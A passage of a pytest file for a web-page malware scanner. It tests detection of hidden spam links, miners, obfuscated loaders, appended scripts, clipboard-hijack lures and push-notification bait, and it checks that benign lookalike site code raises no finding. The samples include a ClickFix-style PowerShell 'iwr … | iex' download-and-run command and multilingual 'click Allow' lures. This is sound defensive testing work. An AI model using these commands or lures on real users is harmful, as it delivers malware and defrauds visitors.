        SCRIPT_HIDDEN_LINK.replace("var r='#qW3rtY9uIopAs{", "var r=`#qW3rtY9uIopAs{")
        .replace("z-index:9981;}';", "z-index:9981;}`;"))}, ("hidden-links", H)),
    ("SEO link off-screen, its <style> named in capitals and mixed quotes, wp_footer", {
        "footer": SCRIPT_HIDDEN_LINK.replace("createElement('sty'+'le')",
                                             "createElement('ST'+\"YLE\")")}, ("hidden-links", H)),
    ("SEO link off-screen by a <style> a script writes as markup, wp_footer", {"footer": (
        '<div id="qW3rtY9uIopAs"><p><a href="https://cheap-meds-online.test/">look here</a></p>'
        "</div><script>document.head.insertAdjacentHTML('beforeend','<style>#qW3rtY9uIopAs{"
        "position:fixed;top:-90817263px}</style>');</script>")}, ("hidden-links", H)),
    ("SEO links at font-size 0, in the post", {"post": PHARMA_FONT0}, ("hidden-links", H)),
    # a nulled theme's kit: a block of pill and loan links after <body>, a script after it
    # hiding that id (tested, then hidden twice over)
    ("SEO links a script hides by their block's id, body top", {"body_top": _ID_HIDDEN_LINKS},
     ("hidden-links", H)),
    ("SEO links querySelector('#…') hides, body top", {"body_top": _ID_HIDDEN_LINKS.replace(
        "document.getElementById('qvTr')", "document.querySelector(\"#qvTr\")")},
     ("hidden-links", H)),
    ("SEO links jQuery hides, body top", {"body_top": _ID_HIDDEN_LINKS.split("<script>")[0]
                                          + "<script>jQuery('#qvTr').hide();</script>"},
     ("hidden-links", H)),
    # hidden at load all the same: on DOMContentLoaded, by a function called at once
    ("SEO links a DOMContentLoaded listener hides, body top", {"body_top": _ID_HIDDEN_LINKS.split(
        "<script")[0] + "<script>document.addEventListener('DOMContentLoaded',function(){"
        "document.getElementById('qvTr').style.display='none';});</script>"}, ("hidden-links", H)),
    ("SEO links a function called at once hides, body top", {"body_top": _ID_HIDDEN_LINKS.split(
        "<script")[0] + "<script>function hm(){jQuery('#qvTr').hide();}hm();</script>"},
     ("hidden-links", H)),
    ("CoinHive-style miner, wp_footer", {"footer": MINER}, ("cryptominer", H)),
    ("0x0 iframe in a widget", {"widget": FRAME_ZERO}, ("hidden-iframe", H)),
    ("off-screen iframe in the post", {"post": FRAME_OFFSCREEN}, ("hidden-iframe", H)),
    ("eval(atob()) loader, wp_footer", {"footer": EVAL_ATOB}, ("obfuscated-script", H)),
    ("\\x-escaped loader, head", {"head": HEX_LOADER}, ("obfuscated-script", H)),
    ("script after </html>", {"after": APPENDED}, ("appended-script", H)),
    ("script after </html>, a document's start after it", {"after": APPENDED + (
        "<html><head></head><body><p>x</p>")}, ("appended-script", H)),
    # a whole document appended after the page's end, its script in its head: no
    # template's code between the two (a 404 branch's `';}else{echo '`)
    ("script in a document appended after </html>", {"after": (
        "<!DOCTYPE html>\n<html><head>" + APPENDED + "</head><body><p>x</p>")},
     ("appended-script", H)),
    # the same document closed by its own `</html>`, the last of the file: the page's end
    # is the first, the one a whole document follows
    ("script in a closed document appended after </html>", {"after": (
        "<!DOCTYPE html>\n<html><head>" + APPENDED + "</head><body><p>x</p></body></html>\n")},
     ("appended-script", H)),
    ("script in a closed document appended on the </html> line", {"after": (
        "<html><head>" + APPENDED + "</head></html>")}, ("appended-script", H)),
]


@pytest.mark.parametrize(("name", "where", "expected"), FAMILIES, ids=[f[0] for f in FAMILIES])
def test_each_family_is_found_at_the_severity_a_reviewer_acts_on(
        name: str, where: dict[str, str], expected: tuple[str, Severity],
        audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(**where), URL)
    found = {(f.kind, f.severity) for f in report.findings}
    assert expected in found, [(f.kind, f.severity.value, f.message) for f in report.findings]
    for f in report.findings:
        assert f.severity in FINDING_KINDS[f.kind].severities
        assert f.message and "<script" not in f.message  # says what, not the raw markup


def _serious(report: PageReport) -> list[tuple[str, str]]:
    return [(f.kind, f.message) for f in report.findings if f.severity is not L]


def test_the_clean_page_has_no_finding(audit_listed: AuditListed) -> None:
    assert audit_listed(wp_page(), URL).findings == ()


# What a site's own code does that looks alike, each from a real pattern: a font cache
# that evals the CSS it fetched (a news site's), a "copy coupon code" button, a contact
# form posting to the site, a counter pixel carrying the referrer, GA's loader picking
# nothing at random, a breaking-news push prompt, Chrome's own download page link, a
# language redirect behind a cookie, a CDN failover among one vendor's mirrors.
# a casino guide's own bar of its partners' offers, a close button in it
_OFFERS_BAR = (
    '<div id="offers-bar">Today: <a href="https://www.royalspin-casino.test/">Royal Spin '
    'Casino</a> <a href="https://luckyreels-bonus.test/">200 free spins</a> <a href="https://'
    'www.jackpotcity-slots.test/">Jackpot City slots</a> <button id="bar-x">x</button></div>')
TWINS: list[tuple[str, dict[str, str]]] = [
    ("a first click that records consent, a share button's window beside it", {"footer": (
        "<script>document.addEventListener('click',function(){document.cookie='seen=1;path=/';"
        "},{once:true});document.getElementById('tw').onclick=function(){window.open('https://"
        "twitter.com/intent/tweet?url='+encodeURIComponent(location.href));};</script>")}),
    ("a document's delegated click opening the site's own page", {"footer": (
        "<script>document.addEventListener('click',function(e){if(e.target.matches('.print'))"
        "{window.open('https://www.harbourgazette.example/print/4187');}},{once:true});"
        "</script>")}),
    ("a share button's click delegated to the document, a cookie set beside it", {"footer": (
        "<script>document.cookie='gz_theme=light;path=/';document.addEventListener('click',"
        "function(e){var b=e.target.closest('a[data-share=\"facebook\"]');if(!b)return;"
        "e.preventDefault();window.open('https://www.facebook.com/sharer/sharer.php?u='+"
        "encodeURIComponent(location.href),'share','width=600,height=400');},{once:true});"
        "</script>")}),
    ("a settings script's shop address the next script opens on a click", {"footer": (
        "<script>var shopUrl='https://shop.harbourmedia-group.test/';</script>\n<script>"
        "document.getElementById('shop').onclick=function(){location.href=shopUrl;};"
        "</script>")}),
    ("WordPress' localized settings read by the next script", {"footer": (
        '<script id="gazette-js-extra">var gazetteVars={"ajaxurl":"https:\\/\\/www.'
        'harbourgazette.example\\/wp-admin\\/admin-ajax.php","cdn":"https://static.'
        'harbourmedia-cdn.test/"};</script>\n<script>jQuery.post(gazetteVars.ajaxurl,{action:'
        "'views',id:4187});</script>")}),
    ("a notice a script hides once it runs, its one link in prose", {"footer": (
        '<div id="js-warning"><p>This timetable works best with JavaScript on; the printable '
        'version is at <a href="https://timetables.ferrylink.test/print">the operator\'s site'
        "</a> if it does not load.</p></div><script>var st=document.createElement('style');"
        "st.textContent='#js-warning{display:none}';document.head.appendChild(st);</script>")}),
    ("a no-JavaScript notice a script hides, its one link the how-to", {"body_top": (
        '<div class="nojs-note"><a href="https://www.enable-javascript.test/">Turn on JavaScript'
        " to see the live timetable</a></div><script>(function(){var s=document.createElement("
        "'style');s.textContent='.nojs-note{display:none}';document.head.appendChild(s);})();"
        "</script>")}),
    ("an off-canvas menu a script's rule parks beside the screen, one link to the group",
     {"body_top": (
         '<nav id="offcanvas"><a href="https://events.harbourmedia-group.test/">Events</a>'
         "</nav><script>(function(){var s=document.createElement('style');s.textContent="
         "'#offcanvas{position:fixed;left:-320px;transition:left .3s}';document.head."
         "appendChild(s);})();</script>")}),
    ("a skip link's block a script moves off-screen, to the group's accessibility page",
     {"body_top": (
         '<div class="skip-help"><a href="https://access.harbourmedia-group.test/">'
         "Accessibility help</a></div><script>var st=document.createElement('style');"
         "st.textContent='.skip-help{position:absolute;left:-10000px}';document.head."
         "appendChild(st);</script>")}),
    ("a CSS-in-JS class its library's script writes hiding one link to a sister site", {
        "body_top": (
            '<style data-emotion="css"></style><div class="css-1x2y3z"><a href="https://www.'
            'harbourweekly.test/">Harbour Weekly</a></div><script>(function(){var s=document.'
            "createElement('style');s.setAttribute('data-emotion','css');s.textContent="
            "'.css-1x2y3z{display:none}';document.head.appendChild(s);})();</script>")}),
    ("a drawer menu a script writes closed, opened by a visible button", {"body_top": (
        '<button aria-controls="partners" aria-expanded="false">Our partners</button>'
        '<ul id="partners"><li><a href="https://ferrylink.test/">Ferrylink</a></li></ul>'
        "<script>var st=document.createElement('style');st.textContent='#partners{display:none}"
        " #partners.open{display:block}';document.head.appendChild(st);</script>")}),
    ("a modal of the site's own links a script hides, and shows on a click", {"body_top": (
        '<div id="login-box"><a href="/account/">Account</a><a href="https://shop.harbourmedia'
        '-group.test/">Shop</a><a href="https://events.harbourmedia-group.test/">Events</a>'
        '<a href="https://jobs.ferrylink.test/">Jobs</a></div><script>document.getElementById('
        "'login-box').style.display='none';</script><button onclick=\"document.getElementById("
        "'login-box').style.display='block'\">Sign in</button>")}),
    ("a partners list a script hides, kept by a name the toggle uses", {"body_top": (
        '<ul id="partner-sites"><li><a href="https://ferrylink.test/">Ferrylink</a></li><li>'
        '<a href="https://www.harbourweekly.test/">Weekly</a></li><li><a href="https://radio-'
        'harbour.test/">Radio</a></li></ul><script>var list=document.getElementById("partner-'
        'sites");list.style.display="none";document.getElementById("partners-btn").onclick='
        'function(){list.style.display="block";};$("#partner-sites").hide();</script>')}),
    ("a site's menu a script hides, then fades in", {"body_top": (
        '<div id="sisters"><a href="https://ferrylink.test/">Ferrylink</a><a href="https://'
        'www.harbourweekly.test/">Weekly</a><a href="https://radio-harbour.test/">Radio</a>'
        "</div><script>$('#sisters').hide();$('.more').click(function(){$('#sisters')."
        "fadeIn();});</script>")}),
    ("prose naming getElementById('x').style.display='none' in a <pre>", {"post": (
        '<div id="tips"><a href="https://ferrylink.test/">a</a><a href="https://www.harbour'
        'weekly.test/">b</a><a href="https://radio-harbour.test/">c</a></div><pre>document.'
        "getElementById('tips').style.display='none'</pre>")}),
    # a casino guide's own offers bar, shown at load: its scripts hide it only on a click,
    # a timer or a function its close button calls, none at load
    ("an offers bar a click listener hides", {"body_top": _OFFERS_BAR + (
        "<script>document.getElementById('bar-x').addEventListener('click',function(){"
        "document.getElementById('offers-bar').style.display='none';});</script>")}),
    ("an offers bar jQuery hides on a click", {"body_top": _OFFERS_BAR + (
        "<script>jQuery(function($){$(document).on('click','#bar-x',function(){"
        "$('#offers-bar').hide();});});</script>")}),
    ("an offers bar a timer hides", {"body_top": _OFFERS_BAR + (
        "<script>setTimeout(() => {document.getElementById('offers-bar').style.display="
        "'none';}, 8000);</script>")}),
    ("an offers bar hidden for a visitor who closed it before", {"body_top": _OFFERS_BAR + (
        "<script>if(localStorage.getItem('bar-closed')==='1'){document.getElementById("
        "'offers-bar').style.display='none';}</script>")}),
    ("an offers bar a function its button calls hides", {"body_top": _OFFERS_BAR.replace(
        '<button id="bar-x">', '<button onclick="closeBar()">') + (
        "<script>function closeBar(){document.getElementById('offers-bar').style.visibility"
        "='hidden';}</script>")}),
    # a PHP template's two branches, a 404 page echoed and closed, then the page: the
    # second document's head scripts are its own, not appended after the first's end
    ("a second document of the file after the first's </html>", {"after": (
        "';\n}else{\necho '<!DOCTYPE html>\n<html>\n<head>\n<title>Timetable</title>\n"
        "<script src=\"https://www.qzrwkpmvtx.test/w.js\"></script>\n</head>\n<body>\n"
        "<p>The winter timetable.</p>\n</body>';\n}\n?>")}),
    ("font cache evals what it fetched", {"head": (
        "<script>(function(){var xhr=new XMLHttpRequest;xhr.open('GET','/fonts/gazette.json',"
        "true);xhr.onreadystatechange=function(){if(xhr.readyState===4&&xhr.status===200){"
        "var css=eval(xhr.responseText);document.getElementById('fonts').innerHTML=css;"
        "localStorage.setItem('fonts',css);}};if(document.cookie.indexOf('fonts=')<0)"
        "xhr.send();})();</script>")}),
    ("copy coupon code", {"post": (
        '<button id="copy">Copy code</button><input id="code" value="FERRY10" readonly>'
        "<script>document.getElementById('copy').onclick=function(){navigator.clipboard."
        "writeText(document.getElementById('code').value);};</script>")}),
    ("copy an install command on a docs page", {"post": (
        "<pre id='cmd'>pip install harbour-timetable</pre><script>function copyCmd(){"
        "navigator.clipboard.writeText(document.getElementById('cmd').textContent);}</script>")}),
    ("a PowerShell install command the docs page shows, with a copy button", {"post": (
        "<pre id='ps'>powershell -c \"irm https://get.harbourtools.test/install.ps1 | iex\""
        "</pre><button data-clipboard-text='powershell -c \"irm https://get.harbourtools."
        "test/install.ps1 | iex\"'>Copy</button><script>document.querySelector('button')."
        "onclick=function(e){navigator.clipboard.writeText(e.target.dataset.clipboardText);};"
        "</script>")}),
    ("a search term sent to the site's stats host", {"footer": (
        "<script>document.querySelector('#s').addEventListener('change',function(e){"
        "navigator.sendBeacon('https://stats.harbourgazette-cdn.test/search',e.target.value);"
        "});</script>")}),
    ("contact form posts to the site", {"footer": (
        "<script>document.querySelector('#contact').addEventListener('submit',function(e){"
        "e.preventDefault();fetch('/wp-json/contact-form-7/v1/contact-forms/12/feedback',{"
        "method:'POST',body:new FormData(e.target)});});</script>")}),
    ("newsletter form to Mailchimp", {"footer": (
        "<script>document.querySelector('#nl').addEventListener('submit',function(e){var m="
        "document.getElementById('email').value;navigator.sendBeacon('https://harbourgazette"
        ".us21.list-manage.com/subscribe/post',m);});</script>")}),
    ("LiveInternet-style counter with the referrer", {"footer": (
        "<script>new Image().src='https://counter.yadro.ru/hit?r'+escape(document.referrer)+"
        "';u'+escape(document.URL)+';'+Math.random();var q=document.getElementById('q')."
        "value;</script>")}),
    ("a known counter's script tag with the referrer", {"footer": (
        "<script>document.write('<script src=\"https://top-fwz1.mail.ru/js/code.js?id=3210987&r="
        "' + escape(document.referrer) + '\"></scr' + 'ipt>');</script>")}),
    ("A/B test loads a variant for search visitors", {"head": (
        "<script>var v=/google\\./.test(document.referrer)?'b':'a';var s=document."
        "createElement('script');s.src='/wp-content/themes/gazette/js/hero-'+v+'.js';document"
        ".head.appendChild(s);</script>")}),
    ("breaking-news push prompt", {"footer": (
        "<div class='push-optin'>Get breaking news: click Allow when your browser asks.</div>"
        "<script>document.querySelector('.push-optin').onclick=function(){Notification."
        "requestPermission();};</script>")}),
    ("Chrome download from Google", {"post": (
        "<p>Your browser is out of date? Update Chrome from <a href='https://dl.google.com/"
        "chrome/install/ChromeStandaloneSetup64.exe'>Google's installer</a>.</p>")}),
    ("a release article linking Firefox's installer", {"post": (
        "<p>Firefox 140 is out: update your browser today. Download the <a href='https://"
        "download-installer.cdn.mozilla.net/pub/firefox/releases/140.0/win64/en-GB/Firefox%20"
        "Setup%20140.0.exe'>Firefox Setup 140.0.exe</a> installer.</p>")}),
    ("a browser release article linking a mirror", {"post": (
        "<p>Opera's latest version fixes the update bug; the installer is also on <a href="
        "'https://files.softmirror.test/opera/OperaSetup.exe'>a mirror</a>.</p>")}),
    ("a vendor's CDN mirrors picked at random", {"footer": (
        "<script>var m=['https://cdn1.harbourgazette.example/a.js','https://cdn2.harbourgazette"
        ".example/a.js','https://cdn3.harbourgazette.example/a.js'];var s=document.createElement("
        "'script');s.src=m[Math.floor(Math.random()*m.length)];document.head.appendChild(s);"
        "</script>")}),
    ("a Windows how-to whose text says Win+R beside the command it shows", {"post": (
        "<p>Press Win+R, paste the command below with Ctrl+V and press Enter.</p><pre>"
        "powershell -Command \"netsh winsock reset\"</pre><button class='copy' "
        "data-clipboard-text='powershell -Command \"netsh winsock reset\"'>Copy</button>"
        "<script>document.querySelector('.copy').onclick=function(e){navigator.clipboard."
        "writeText(e.target.dataset.clipboardText);};</script>")}),
    ("a download portal's latest-version button for a browser", {"post": (
        "<h2>Google Chrome 131 for Windows</h2><p>The browser's newest release; what is "
        "new, then the download.</p><a href='https://dl.softmirror.test/files/ChromeSetup."
        "exe'>Download latest version</a>")}),
    ("a docs page's copy buttons writing the install commands it shows", {"post": (
        "<pre><code>curl -fsSL https://harbourtools.example/install | bash</code></pre><pre><code>"
        "powershell -c \"irm harbourtools.example/install.ps1 | iex\"</code></pre><script>"
        "document.getElementById('c1').onclick=function(){navigator.clipboard.writeText("
        "\"curl -fsSL https://harbourtools.example/install | bash\");};document.getElementById("
        "'c2').onclick=function(){navigator.clipboard.writeText('powershell -c \"irm "
        "harbourtools.example/install.ps1 | iex\"');};</script>")}),
    ("a forum's search box holding a query beside a copy-link button", {"body_top": (
        "<form action='/search'><input name='q' value='powershell execution policy'></form>"
        "<script>function copyLink(){var t=document.createElement('textarea');t.value="
        "location.href;document.body.appendChild(t);t.select();document.execCommand('copy');"
        "t.remove();}</script>")}),
    ("a security article quoting the push lure, on a site with its own push prompt", {
        "post": ("<p>Scam pages show a CAPTCHA and say: \"Click Allow to confirm that you are "
                 "not a robot\". If you click Allow, they push ads to your desktop.</p>"),
        "footer": ("<script>document.getElementById('sub').onclick=function(){Notification."
                   "requestPermission();};</script>")}),
    ("a sports site's alert prompt that names what the alerts bring", {"body_top": (
        "<div class='bell'>Never miss a goal: tap Allow to get alerts when the match starts "
        "and watch the highlights.</div><script>document.querySelector('.bell').onclick="
        "function(){Notification.requestPermission();};</script>")}),
    ("a download portal's sticky bar offering a browser's latest version", {"post": (
        "<div class='sticky' style='position:fixed;bottom:0'>Brave Browser, latest version "
        "1.73.91 <a href='https://dl.softmirror.test/brave/BraveBrowserSetup.exe'>Download</a>"
        "</div>")}),
    ("a login page's show-password toggle beside a counter pixel", {"footer": (
        "<script>document.getElementById('eye').onclick=function(){var p=document."
        "getElementById('pw');p.type=p.type==='password'?'text':'password';};document."
        "getElementById('login').addEventListener('submit',function(){var u=document."
        "querySelector('[name=user]').value?'1':'0';new Image().src='https://px.loginstats"
        "-analytics.test/ev?e=login&has_user='+u;});</script>")}),
    ("a random partner link beside a loader of the site's own script", {"footer": (
        "<script>var partners=['https://www.gameshop-one.test/?ref=7','https://www.cheapkeys-"
        "two.test/?ref=7','https://www.modsite-three.test/?ref=7'];document.getElementById("
        "'ban').innerHTML='<a href=\"'+partners[Math.floor(Math.random()*partners.length)]+"
        "'\">Partner</a>';var d=document.createElement('script');d.src='/js/count.js';"
        "document.body.appendChild(d);</script>")}),
    ("a first-touch cookie sorting search visitors, beside a chat widget's loader", {"head": (
        "<script>(function(){var r=document.referrer,src='direct';if(/google\\.|bing\\./."
        "test(r))src='organic';else if(/facebook\\.|instagram\\./.test(r))src='social';if("
        "document.cookie.indexOf('ft_src=')<0){document.cookie='ft_src='+src+';path=/';}var "
        "cfg=window.chatCfg||{url:'https://widget.smallchat.test/w.js'};var s=document."
        "createElement('script');s.src=cfg.url;document.head.appendChild(s);})();</script>")}),
    ("a media player's download page asking to update the player", {"post": (
        "<h2>VLC media player 3.0.21</h2><p>Is your version out of date? Update VLC to the "
        "latest version.</p><a href='https://get.videolan.test/vlc/3.0.21/vlc-3.0.21-win64."
        "exe'>Update VLC</a><p>Works in any browser.</p>")}),
    ("card fields posted to a gateway the catalogue knows (iyzico)", {"footer": (
        "<script>document.getElementById('pay').addEventListener('submit',function(e){e."
        "preventDefault();fetch('https://api.iyzipay.com/payment/auth',{method:'POST',body:"
        "JSON.stringify({cardNumber:document.getElementById('card-number').value,cvc:document."
        "getElementById('cvc').value})}).then(function(r){return r.json();});});</script>")}),
    ("card fields tokenised at a gateway the catalogue knows (Omise's vault)", {"footer": (
        "<script>document.getElementById('pay').addEventListener('submit',function(e){e."
        "preventDefault();fetch('https://vault.omise.co/tokens',{method:'POST',headers:{"
        "Authorization:'Basic '+btoa('pkey_test_5x1m0z:')},body:JSON.stringify({card:{number:"
        "document.getElementById('card-number').value,security_code:document.getElementById("
        "'cvc').value}})});});</script>")}),
    ("a contact form beaconed to Formspree", {"footer": (
        "<script>document.getElementById('contact').addEventListener('submit',function(e){e."
        "preventDefault();navigator.sendBeacon('https://formspree.io/f/xqkrvwpz',new FormData("
        "e.target));});</script>")}),
    ("a contact form posted by jQuery to its forms backend", {"footer": (
        "<form id='contact' action='https://forms.formcatch.example/f/xqkrvwpz' method='post'>"
        "<input name='email'><textarea name='message'></textarea></form><script>jQuery("
        "function($){$('#contact').on('submit',function(e){e.preventDefault();$.post('https:"
        "//forms.formcatch.example/f/xqkrvwpz',$(this).serialize(),function(){$('#contact')."
        "html('Thanks!');});});});</script>")}),
    # an old-style counter the catalogue does not know (a Japanese blog's access
    # analyser): its script carries the referrer, its no-script pixel counts the rest
    ("an unknown counter's script with the referrer and its no-script pixel", {"footer": (
        "<script>document.write('<scr'+'ipt src=\"//ra.blogcount.example/analyze.js?uid=a1b2&"
        "ref='+encodeURIComponent(document.referrer)+'&url='+encodeURIComponent(location.href)"
        "+'\"></scr'+'ipt>');</script><noscript><a href='//www.blogcount.example/'><img src="
        "'//xa.blogcount.example/bin/ll?190123' alt=''></a></noscript>")}),
    ("an unknown counter writing its script as \\x3Cscript", {"footer": (
        "<script>document.write('\\x3Cscript src=\"//ra.blogcount.example/analyze.js?uid=a1b2"
        "&ref='+encodeURIComponent(document.referrer)+'\">\\x3C/script>');</script><noscript>"
        "<img src='//xa.blogcount.example/bin/ll?190123' alt=''></noscript>")}),
    # the Keitaro form on the site's own host (its own tracker), and in a post's <pre>
    ("a referrer-keyed script of the site's own host, built through names", {"head":
        KEITARO_NAMED.replace("http://cdn-jqlib.test", SITE)}),
    ("the Keitaro form quoted in a post's <pre>", {"post": "<pre>" + KEITARO_NAMED.replace(
        "<", "&lt;").replace(">", "&gt;") + "</pre>"}),
    # one script doing two things: the site's own beacon carrying the referrer (and a
    # campaign `_cid`), and a widget of another site loaded through a name: the referrer is
    # handed to no address of the widget's
    ("the site's own referrer beacon beside a widget loaded through a name", {"head": (
        "<script>(function(){var ref = encodeURIComponent(document.referrer); var img = new "
        "Image(); img.src = '" + SITE + "/stats/hit?_cid=ferry&r=' + ref; var base = "
        "'https://cdn.tidewidget.test/w.js'; var s = document.createElement('script'); "
        "s.async = true; s.src = base + '?port=harbour'; document.head.appendChild(s);})();"
        "</script>")}),
    ("analytics pasted after </html>", {"after": (
        "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
        "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
        "</script>")}),
]


@pytest.mark.parametrize(("name", "where"), TWINS, ids=[t[0] for t in TWINS])
def test_a_sites_own_lookalike_code_is_no_finding(name: str, where: dict[str, str],
                                                   audit_listed: AuditListed) -> None:
    assert _serious(audit_listed(wp_page(**where), URL)) == []


def test_an_escaped_string_table_is_read_as_the_code_it_hides(
        audit_listed: AuditListed) -> None:
    """`d['\\x73\\x72\\x63']=…` is `d.src=…`: the loader's target is a script it loads, so
    the hidden host the page names nowhere else makes it high (medium before)."""
    report = audit_listed(wp_page(head=HEX_LOADER), URL)
    (found,) = [f for f in report.findings if f.kind == "obfuscated-script"]
    assert found.severity is H
    assert "loads https://cdn.fontlibrary-api.test/wp.js" in found.message


def test_a_loader_prepended_before_html_is_one_finding(audit_listed: AuditListed) -> None:
    """An unknown site's script before `<html>` is appended-script; the same block with an
    ad network's code is ad-in-body's, reported once."""
    page = wp_page()
    unknown = audit_listed('<script src="https://wp-update-check.test/u.js"></script>\n'
                           + page, URL)
    assert [(f.kind, f.severity) for f in unknown.findings] == [("appended-script", H)]


def test_a_lure_whose_words_are_character_references_is_still_read(
        audit_listed: AuditListed) -> None:
    """An event handler's character references are resolved before its code runs: a
    ClickFix button that writes `&#99;lipboard` copies all the same."""
    lure = ("<button onclick=\"navigator.&#99;lipboard.writeText('powershell -w hidden -c "
            "iwr https://captcha-verify-cdn.test/v.ps1 | iex')\">I'm not a robot</button>")
    report = audit_listed(wp_page(body_top=lure), URL)
    assert ("clipboard-command", H) in [(f.kind, f.severity) for f in report.findings]


def test_a_document_appended_on_the_html_close_line_is_past_the_pages_end(
        audit_listed: AuditListed) -> None:
    """`</html><html><head><script src=…></script></head></html>`, no newline: the first
    `</html>` line's words place the script past the page's end."""
    page = wp_page().rstrip() + "<html><head>" + APPENDED + "</head></html>"
    found = [(f.kind, f.severity) for f in audit_listed(page, URL).findings]
    assert found == [("appended-script", H)]


@pytest.mark.parametrize("second", [
    # a scraper's concatenation of the page's own two halves, no script in the second
    "<!DOCTYPE html>\n<html><head><title>Page 2</title></head><body>" + _PARA
    + "</body></html>\n",
    # the second half's scripts are the page's own and a known vendor's
    "<html><head><script src=\"" + SITE + "/wp-content/themes/gazette/js/nav.js\"></script>"
    "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'></script>"
    "</head><body>" + _PARA + "</body></html>",
], ids=["no script", "own and known scripts"])
def test_a_second_document_with_no_unknown_script_is_no_finding(
        second: str, audit_listed: AuditListed) -> None:
    assert _serious(audit_listed(wp_page(after=second), URL)) == []


def test_a_small_document_before_the_page_makes_the_page_no_appended_one(
        audit_listed: AuditListed) -> None:
    """The page is the longer document: a short one before it (a cache's stub page) does
    not make the page's own scripts of other sites appended after it."""
    stub = "<html><head><title>stub</title></head><body></body></html>\n"
    widget = '<script src="https://widgets.ferrylink.test/times.js"></script>'
    assert [f.kind for f in audit_listed(stub + wp_page(footer=widget), URL).findings
            if f.kind == "appended-script"] == []


# a site's error page, long (its theme, its search form, its links), as a scraper saved it
# before the page it then fetched: the two responses glued into one file
_ERROR_PAGE = ("<!DOCTYPE html>\n<html lang=\"en-GB\"><head><meta charset=\"UTF-8\">\n"
               "<title>Page not found &#8211; Harbour Gazette</title>\n<script src=\""
               + SITE + "/wp-includes/js/jquery/jquery.min.js\"></script></head>\n"
               "<body class=\"error404\"><h1>Oops! That page can&rsquo;t be found.</h1>\n"
               + "<p>It looks like nothing was found at this location. Try a search.</p>\n" * 40
               + "</body>\n</html>\n")
# the real page after it: shorter, a document of its own with its title, its text and
# its scripts, one a widget of another site the catalogue does not know
_REAL_PAGE = ("<!DOCTYPE html>\n<html lang=\"en-GB\"><head><meta charset=\"UTF-8\">\n"
              "<title>Council backs winter ferry timetable</title>\n"
              "<script src=\"https://widgets.ferrylink.test/times.js\"></script></head>\n"
              "<body><h1>Council backs winter ferry timetable</h1>" + _PARA + "\n"
              "<script src=\"https://cdn.ferrylink.test/board.js\"></script></body>\n</html>\n")


def test_a_page_glued_after_a_longer_error_page_has_no_appended_script(
        audit_listed: AuditListed) -> None:
    """Two responses a scraper saved into one file: the second document is a page of its
    own (a title, a body with text, its scripts), not a script appended to the first."""
    assert [f for f in audit_listed(_ERROR_PAGE + _REAL_PAGE, URL).findings
            if f.kind == "appended-script"] == []


@pytest.mark.parametrize("second", [
    # a title, but a body holding nothing but the script
    "<!DOCTYPE html>\n<html><head><title>jQuery UI</title></head><body>" + APPENDED
    + "</body></html>\n",
    # text in the body, but no title: an injector's document, not a page
    "<html><head>" + APPENDED + "</head><body><p>Loading the harbour map</p></body></html>\n",
    # the page's words only in the script's string and a comment
    "<html><head><title>x</title></head><body><!-- Harbour Gazette map -->" + APPENDED
    + "<script>var t='Harbour Gazette';</script></body></html>\n",
    # an injector's document dressed as a page: a title, and a line of text a loader
    # shows (a page's own shows a page's worth: its headline, menus, paragraphs)
    "<!DOCTYPE html><html><head><title>Loading</title></head><body><p>Please wait</p>"
    + APPENDED + "</body></html>\n",
    "<html><head><title>jQuery UI</title>" + APPENDED + "</head><body><noscript>Please "
    "enable JavaScript to view this page.</noscript></body></html>\n",
], ids=["title, script-only body", "text, no title", "words in code and comment",
        "title, a loading line", "title, a noscript notice"])
def test_a_script_only_document_after_the_error_page_is_still_appended(
        second: str, audit_listed: AuditListed) -> None:
    found = [(f.kind, f.severity) for f in audit_listed(_ERROR_PAGE + second, URL).findings]
    assert found == [("appended-script", H)]


def test_only_the_pages_own_html_start_tag_has_a_before(audit_listed: AuditListed) -> None:
    """A post body (a fragment) holds no `<html>` start tag: one in a frame's `srcdoc` or
    a script's string makes nothing before it prepended."""
    script = '<p>Ferry times.</p><script src="https://wp-update-check.test/u.js"></script>'
    for tail in ('\n<iframe srcdoc="<html><body>map</body></html>"></iframe>',
                 '\n<script>document.write("<html lang=en>")</script>'):
        assert _serious(audit_listed(script + tail, URL)) == []


def test_clipboard_finding_names_the_command_not_the_markup(audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(body_top=CLICKFIX_COPY), URL)
    (found,) = [f for f in report.findings if f.kind == "clipboard-command"]
    assert "mshta" in found.message and "mshta https://recaptcha-cloud.test" in found.evidence


@pytest.mark.parametrize("said", [
    'Click "Allow" to confirm that you are not a robot', "Click the Allow button to continue",
    "To watch the video, click Allow", "If you are 18+, tap Allow",
    "Verify that you are not a robot by clicking Allow"])
def test_each_wording_of_the_push_lure_is_bait(said: str, audit_listed: AuditListed) -> None:
    page = wp_page(body_top=(f"<div style='position:fixed;inset:0'><h1>{said}</h1></div><script>"
                             "Notification.requestPermission();</script>"))
    report = audit_listed(page, URL)
    assert ("notification-bait", H) in [(f.kind, f.severity) for f in report.findings]


# The lure as push-spam pages write it in their visitors' languages, the "Allow" as the
# browser's localised prompt labels it
LOCAL_LURES = [
    "Нажмите «Разрешить», чтобы подтвердить, что вы не робот",
    "Натисніть «Дозволити», щоб продовжити перегляд",
    "Klik Izinkan untuk membuktikan bahwa Anda bukan robot",
    'Nhấn "Cho phép" để xác nhận rằng bạn không phải là robot',
    "Robot olmadığınızı onaylamak için İzin Ver'e tıklayın",
    'Clique em "Permitir" para assistir ao vídeo',
    'انقر على "السماح" لتأكيد أنك لست روبوتًا',
    "ロボットでないことを確認するには「許可」をクリックしてください",
    "로봇이 아닌 경우 '허용'을 클릭하세요",
    "点击“允许”以确认您不是机器人",
    # the verb starts within a CJK "Allow"'s 4 characters and ends past them
    "로봇이 아닌 경우 [허용]을 누르세요",
    "如果您不是机器人，请在弹窗里点击允许",
]


@pytest.mark.parametrize("said", LOCAL_LURES)
def test_the_push_lure_in_another_language_is_bait(said: str, audit_listed: AuditListed) -> None:
    page = wp_page(body_top=(f"<div style='position:fixed;inset:0'><h1>{said}</h1></div><script>"
                             "Notification.requestPermission();</script>"))
    report = audit_listed(page, URL)
    assert ("notification-bait", H) in [(f.kind, f.severity) for f in report.findings]


@pytest.mark.parametrize("said", [
    "We use cookies. Click Allow to confirm that you are not a robot.",
    'Usamos cookies. Clique em "Permitir" para confirmar que você não é um robô.',
    "Мы используем куки. Нажмите «Разрешить», чтобы подтвердить, что вы не робот.",
